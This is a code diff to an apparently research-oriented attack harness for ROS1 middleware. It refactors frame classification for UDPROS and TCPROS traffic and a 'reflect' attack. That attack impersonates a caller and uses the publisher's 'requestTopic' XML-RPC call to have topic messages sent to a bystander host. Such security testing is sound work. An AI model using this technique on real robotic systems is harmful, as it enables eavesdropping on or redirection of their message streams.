@@ -8,8 +8,8 @@ from xmlrpc.client import Binary
 from comseclab.attack import tcp
 from comseclab.attack.dialect import Dialect, Prepared, Setting
 from comseclab.attack.dialects import ros1_graph as graph
-from comseclab.attack.dialects.ros1_publisher import FIRST, FURTHER, UDPROS, Impostor
-from comseclab.attack.frame import UDP, Frame
+from comseclab.attack.dialects.ros1_publisher import FIRST, FURTHER, UDPROS, Impostor, header_of
+from comseclab.attack.frame import TCP, UDP, Frame
 from comseclab.middleware.base import Material
 from comseclab.middleware.ros1 import MASTER_PORT
 from comseclab.trial.spec import Factors
@@ -50,12 +50,11 @@ class Ros1(Dialect):
 
     def is_message(self, frame: Frame, scene: "Scene") -> bool:
         """UDPROS: any datagram of a message. TCPROS: a segment longer than what the two hosts' APIs say."""
-        if not frame.protocol or (frame.source[0], frame.destination[0]) != (
-            scene.writer.address,
-            scene.reader.address,
-        ):
+        ends = frame.source[0], frame.destination[0]
+        carrier = UDP if scene.spec.trial.factors.reliability == "best-effort" else TCP
+        if frame.protocol != carrier or ends != (scene.writer.address, scene.reader.address):
             return False
-        if frame.protocol == UDP:
+        if carrier == UDP:
             return len(frame.payload) > UDPROS.size and frame.payload[4] in (FIRST, FURTHER)
         largest = scene.spec.trial.streams[0].max_size
         return frame.source[1] != MASTER_PORT and len(frame.payload) > min(largest // 2, LARGE)
@@ -112,8 +111,7 @@ class Ros1(Dialect):
     def reflect(self, scene: "Scene") -> None:
         """Ask the publisher for the topic by UDPROS as if one were the bystander, who then gets every message."""
         topic = graph.learn(scene)
-        fields = (f"callerid={graph.CALLER}", f"topic={topic.name}", f"type={topic.type}", "md5sum=*")
-        header = b"".join(struct.pack("<I", len(field)) + field.encode() for field in fields)
+        header = header_of({"callerid": graph.CALLER, "topic": topic.name, "type": topic.type, "md5sum": "*"})
         wanted = ["UDPROS", Binary(header), scene.hosts["bystander"].address, 9, 1500]
         graph.call(scene, topic.publisher_api, "requestTopic", graph.CALLER, topic.name, [wanted])
         scene.note("asked the publisher to send to the bystander")
